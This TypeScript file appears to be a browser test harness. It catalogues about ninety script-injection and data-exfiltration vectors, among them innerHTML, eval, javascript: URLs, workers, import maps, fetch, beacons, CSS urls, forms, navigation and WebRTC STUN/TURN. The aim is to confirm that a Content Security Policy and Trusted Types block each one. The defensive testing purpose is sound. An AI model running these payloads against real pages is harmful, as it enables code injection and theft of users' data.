/** One way for code in the page to reach somebody outside, or for text to become code. */
export interface Attack {
  readonly name: string;
  /** What the page or the app says when it is stopped: a directive of the policy, an error, what the code returns. */
  readonly stoppedBy: string;
  /**
   * The body of an async function in the page. `url` leads to the attacker, `door` to a port of the attack's own, `report`
   * is code as text that goes there; `put` appends an element with properties and attributes.
   */
  readonly code: string;
  /** It is counted at a port of its own, by a mere connection or packet. */
  readonly door?: true;
  /** Chromium itself lets nobody do this: here it is asked whether that is still so. */
  readonly neverHits?: true;
}

const markup = `'<img src="data:," onerror="' + report + '">'`;
const trusted = 'require-trusted-types-for';
const page = `'data:text/html,' + encodeURIComponent('<img src="' + url + '">')`;
const blob = (text: string, type: string) => `URL.createObjectURL(new Blob([${text}], { type: '${type}' }))`;
const nonce = `nonce: document.querySelector('meta[name=csp-nonce]')?.content ?? ''`;
/** The event comes when a navigation was prevented; a page that is left hears nothing any more. */
const prevented = 'return await prevented';

const textBecomesCode: readonly Attack[] = [
  { name: 'script', stoppedBy: trusted, code: `put('script', { textContent: report })` },
  {
    name: 'script from a text node',
    stoppedBy: trusted,
    code: `put('script').append(document.createTextNode(report))`,
  },
  { name: 'script address', stoppedBy: trusted, code: `put('script', { src: url + 'a.js' })` },
  { name: 'script address attribute', stoppedBy: trusted, code: `put('script', {}, { src: url + 'a.js' })` },
  {
    name: 'script in a picture',
    stoppedBy: trusted,
    code: `put('svg').append(put('svg:script', {}, { href: url + 'a.js' }))`,
  },
  { name: 'onerror attribute', stoppedBy: trusted, code: `put('img', { src: 'data:,' }, { onerror: report })` },
  { name: 'onload attribute', stoppedBy: trusted, code: `put('style', {}, { onload: report })` },
  { name: 'innerHTML', stoppedBy: trusted, code: `put('div').innerHTML = ${markup}` },
  { name: 'outerHTML', stoppedBy: trusted, code: `put('div').outerHTML = ${markup}` },
  { name: 'insertAdjacentHTML', stoppedBy: trusted, code: `put('div').insertAdjacentHTML('beforeend', ${markup})` },
  { name: 'setHTMLUnsafe', stoppedBy: trusted, code: `put('div').setHTMLUnsafe(${markup})` },
  { name: 'document.write', stoppedBy: trusted, code: `document.write(${markup})` },
  {
    name: 'fragment',
    stoppedBy: trusted,
    code: `put('div').append(document.createRange().createContextualFragment(${markup}))`,
  },
  {
    name: 'parser',
    stoppedBy: trusted,
    code: `put('div').append(new DOMParser().parseFromString(${markup}, 'text/html').body.firstChild)`,
  },
  { name: 'javascript: link', stoppedBy: 'script-src', code: `put('a', { href: 'javascript:' + report }).click()` },
  { name: 'javascript: address', stoppedBy: 'script-src', code: `location.href = 'javascript:' + report` },
  { name: 'javascript: frame', stoppedBy: 'script-src', code: `put('iframe', { src: 'javascript:parent.' + report })` },
  { name: 'eval', stoppedBy: trusted, code: 'eval(report)' },
  { name: 'indirect eval', stoppedBy: trusted, code: '(0, eval)(report)' },
  { name: 'new Function', stoppedBy: trusted, code: 'new Function(report)()' },
  { name: 'constructor of a function', stoppedBy: trusted, code: '(() => {}).constructor(report)()' },
  { name: 'setTimeout of a text', stoppedBy: trusted, code: 'setTimeout(report)' },
  {
    name: 'a policy of its own',
    stoppedBy: 'trusted-types',
    code: `eval(trustedTypes.createPolicy('evil', { createScript: (text) => text }).createScript(report))`,
  },
  {
    name: 'a default policy',
    stoppedBy: 'trusted-types',
    code: `trustedTypes.createPolicy('default', { createScript: (text) => text }); eval(report)`,
  },
  { name: 'import', stoppedBy: 'script-src', code: `await import(url + 'a.js')` },
  {
    name: 'import of data',
    stoppedBy: 'script-src',
    code: `await import('data:text/javascript,' + encodeURIComponent(report))`,
  },
  { name: 'import of a blob', stoppedBy: 'script-src', code: `await import(${blob('report', 'text/javascript')})` },
  {
    name: 'import map',
    stoppedBy: trusted,
    code: `put('script', { type: 'importmap', textContent: JSON.stringify({ imports: { x: url + 'a.js' } }) }); await import('x')`,
  },
  { name: 'worker', stoppedBy: trusted, code: `new Worker(url + 'a.js')`, neverHits: true },
  { name: 'worker of a blob', stoppedBy: trusted, code: `new Worker(${blob('report', 'text/javascript')})` },
  {
    name: 'worker of data',
    stoppedBy: trusted,
    code: `new Worker('data:text/javascript,' + encodeURIComponent(report))`,
  },
  { name: 'shared worker', stoppedBy: trusted, code: `new SharedWorker(${blob('report', 'text/javascript')})` },
  {
    name: 'service worker',
    stoppedBy: trusted,
    code: `await navigator.serviceWorker.register(url + 'a.js')`,
    neverHits: true,
  },
  {
    name: 'worklet',
    stoppedBy: 'script-src',
    code: `return await CSS.paintWorklet.addModule(url + 'a.js').catch(({ name }) => name)`,
  },
  { name: 'empty frame, eval', stoppedBy: trusted, code: `within(put('iframe')).eval('parent.' + report)` },
  {
    name: 'empty frame, written',
    stoppedBy: trusted,
    code: `within(put('iframe')).document.write('<script>parent.' + report + '<\\/script>')`,
  },
  {
    name: 'frame of text',
    stoppedBy: trusted,
    code: `put('iframe', { srcdoc: '<script>parent.' + report + '<\\/script>' })`,
  },
];

const requests: readonly Attack[] = [
  { name: 'fetch', stoppedBy: 'connect-src', code: 'await fetch(url)' },
  { name: 'fetchLater', stoppedBy: 'connect-src', code: 'fetchLater(url, { activateAfter: 0 })' },
  { name: 'fetch of an empty frame', stoppedBy: 'connect-src', code: `await within(put('iframe')).fetch(url)` },
  {
    name: 'XMLHttpRequest',
    stoppedBy: 'connect-src',
    code: `const request = new XMLHttpRequest(); request.open('GET', url); request.send()`,
  },
  { name: 'EventSource', stoppedBy: 'connect-src', code: `new EventSource(url + 'a.events')` },
  { name: 'WebSocket', stoppedBy: 'connect-src', code: `new WebSocket(url.replace('http', 'ws'))` },
  {
    name: 'WebTransport',
    stoppedBy: 'connect-src',
    code: `await new WebTransport('https://' + door).ready`,
    door: true,
  },
  { name: 'beacon', stoppedBy: 'connect-src', code: `navigator.sendBeacon(url, 'x')` },
  { name: 'ping of a link', stoppedBy: 'connect-src', code: `put('a', { href: '#x', ping: url }).click()` },
  { name: 'dictionary', stoppedBy: 'connect-src', code: `put('link', { rel: 'compression-dictionary', href: url })` },
  {
    name: 'federated login',
    stoppedBy: 'NotAllowedError',
    code: `return await navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'x' }] } }).catch(({ name }) => name)`,
  },
  { name: 'image', stoppedBy: 'img-src', code: 'new Image().src = url' },
  { name: 'image set', stoppedBy: 'img-src', code: `put('img', { srcset: url })` },
  { name: 'image in a picture', stoppedBy: 'img-src', code: `put('svg').append(put('svg:image', {}, { href: url }))` },
  { name: 'image button', stoppedBy: 'img-src', code: `put('input', { type: 'image', src: url })` },
  { name: 'icon', stoppedBy: 'img-src', code: `put('link', { rel: 'icon', href: url })`, neverHits: true },
  { name: 'poster', stoppedBy: 'img-src', code: `put('video', { poster: url })` },
  { name: 'video', stoppedBy: 'media-src', code: `put('video', { preload: 'auto', src: url })` },
  { name: 'audio', stoppedBy: 'media-src', code: 'new Audio(url).load()' },
  { name: 'object', stoppedBy: trusted, code: `put('object', { data: url })` },
  { name: 'embed', stoppedBy: trusted, code: `put('embed', { src: url })` },
  { name: 'font', stoppedBy: 'font-src', code: `await new FontFace('evil', 'url(' + url + ')').load()` },
  { name: 'style sheet', stoppedBy: 'style-src', code: `put('link', { rel: 'stylesheet', href: url + 'a.css' })` },
  {
    name: 'style',
    stoppedBy: 'style-src',
    code: `put('style', { textContent: 'body { background: url(' + url + ') }' })`,
  },
  { name: 'style import', stoppedBy: 'style-src', code: `put('style', { textContent: '@import "' + url + 'a.css"' })` },
  {
    name: 'style with the nonce',
    stoppedBy: 'img-src',
    code: `put('style', { ${nonce}, textContent: 'html { background: url(' + url + ') }' })`,
  },
  {
    name: 'style import with the nonce',
    stoppedBy: 'style-src',
    code: `put('style', { ${nonce}, textContent: '@import "' + url + 'a.css"' })`,
  },
  { name: 'style attribute', stoppedBy: 'style-src', code: `put('p', {}, { style: 'background: url(' + url + ')' })` },
  { name: 'style property', stoppedBy: 'img-src', code: `put('p').style.background = 'url(' + url + ')'` },
  {
    name: 'style rule',
    stoppedBy: 'img-src',
    code: `const sheet = new CSSStyleSheet(); sheet.replaceSync('p { background: url(' + url + ') }'); document.adoptedStyleSheets = [sheet]; put('p')`,
  },
  { name: 'preload', stoppedBy: 'img-src', code: `put('link', { rel: 'preload', as: 'image', href: url })` },
  {
    name: 'preload of a module',
    stoppedBy: 'script-src',
    code: `put('link', { rel: 'modulepreload', href: url + 'a.js' })`,
  },
  { name: 'prefetch', stoppedBy: 'default-src', code: `put('link', { rel: 'prefetch', href: url })` },
  {
    name: 'speculation rules',
    stoppedBy: trusted,
    code: `put('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [url] }] }) })`,
  },
  {
    name: 'base',
    stoppedBy: 'base-uri',
    code: `put('base', { href: url }, {}, document.head); await fetch('relative')`,
  },
];

const waysOut: readonly Attack[] = [
  { name: 'frame', stoppedBy: 'frame-src', code: `put('iframe', { src: url })` },
  { name: 'frame of data', stoppedBy: 'frame-src', code: `put('iframe', { src: ${page} })` },
  { name: 'frame of a blob', stoppedBy: 'frame-src', code: `put('iframe', { src: ${blob(markup, 'text/html')} })` },
  {
    name: 'form into another window',
    stoppedBy: 'form-action',
    code: `put('form', { action: url, target: '_blank' }).submit()`,
  },
  { name: 'form', stoppedBy: 'prevented', code: `put('form', { action: url }).submit(); ${prevented}` },
  {
    name: 'form by post',
    stoppedBy: 'prevented',
    code: `put('form', { action: url, method: 'post' }).requestSubmit(); ${prevented}`,
  },
  { name: 'link', stoppedBy: 'prevented', code: `put('a', { href: url }).click(); ${prevented}` },
  { name: 'download', stoppedBy: 'prevented', code: `put('a', { href: url, download: 'x' }).click(); ${prevented}` },
  { name: 'location', stoppedBy: 'prevented', code: `location.href = url; ${prevented}` },
  { name: 'location, replaced', stoppedBy: 'prevented', code: `location.replace(url); ${prevented}` },
  {
    name: 'location of a blob',
    stoppedBy: 'prevented',
    code: `location.href = ${blob(markup, 'text/html')}; ${prevented}`,
  },
  {
    name: 'location of data',
    stoppedBy: 'Not allowed to navigate top frame to data URL',
    code: `location.href = ${page}; return 'asked'`,
    neverHits: true,
  },
  {
    name: 'refresh',
    stoppedBy: 'prevented',
    code: `put('meta', { httpEquiv: 'refresh', content: '0;url=' + url }, {}, document.head); ${prevented}`,
  },
  { name: 'window', stoppedBy: 'no window', code: `return window.open(url) ?? 'no window'` },
  { name: 'window, named', stoppedBy: 'no window', code: `return window.open(url, 'evil', 'popup') ?? 'no window'` },
];

const gather = (server: string) =>
  `const peer = new RTCPeerConnection({ iceServers: [${server}] });
  peer.createDataChannel('x');
  const gathered = new Promise((done) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done() });
  await peer.setLocalDescription();
  await gathered;
  return 'gathered'`;

/** WebRTC asks neither the policy nor for a request: what stops it is the browser's way to the network. */
export const peers: readonly Attack[] = [
  { name: 'STUN', stoppedBy: 'gathered', door: true, code: gather(`{ urls: 'stun:' + door }`) },
  {
    name: 'TURN',
    stoppedBy: 'gathered',
    door: true,
    code: gather(`{ urls: 'turn:' + door + '?transport=tcp', username: 'x', credential: 'x' }`),
  },
];

export const attacks: readonly Attack[] = [...textBecomesCode, ...requests, ...waysOut];

/**
 * The attack as an expression for the page. Its value says what stopped it, or that nobody did: by the policy's own events, by
 * the navigation that was prevented, or by what the attack returns. What it put into the page is taken out again, at the latest
 * at `endAttack()`.
 */
export function expressionOf({ code }: Attack, target: { readonly url: string; readonly door: string }): string {
  return `(async () => {
    const { url, door } = ${JSON.stringify(target)};
    const report = "fetch('" + url + "')";
    const trash = [];
    const told = Promise.withResolvers();
    const note = ({ effectiveDirective }) => told.resolve(effectiveDirective);
    const prevented = new Promise((resolve) => navigation.addEventListener('navigateerror', () => resolve('prevented'), { once: true }));
    const put = (name, properties = {}, attributes = {}, parent = document.body) => {
      const [tag, picture] = name.split(':').toReversed();
      const element = picture || tag === 'svg' ? document.createElementNS('http://www.w3.org/2000/svg', tag) : document.createElement(tag);
      trash.push(element);
      for (const key in attributes) element.setAttribute(key, attributes[key]);
      Object.assign(element, properties);
      parent.append(element);
      return element;
    };
    const within = ({ contentWindow }) => {
      contentWindow.addEventListener('securitypolicyviolation', note);
      return contentWindow;
    };
    addEventListener('securitypolicyviolation', note);
    const attack = async () => { ${code} };
    let failure = '';
    attack().then((value) => value && told.resolve(String(value)), (error) => { failure = String(error); });
    window.endAttack = () => told.resolve('nobody ' + failure);
    setTimeout(endAttack, 20000);
    const answer = await told.promise;
    removeEventListener('securitypolicyviolation', note);
    for (const element of trash) element.remove();
    document.adoptedStyleSheets = [];
    return answer;
  })()`;
}
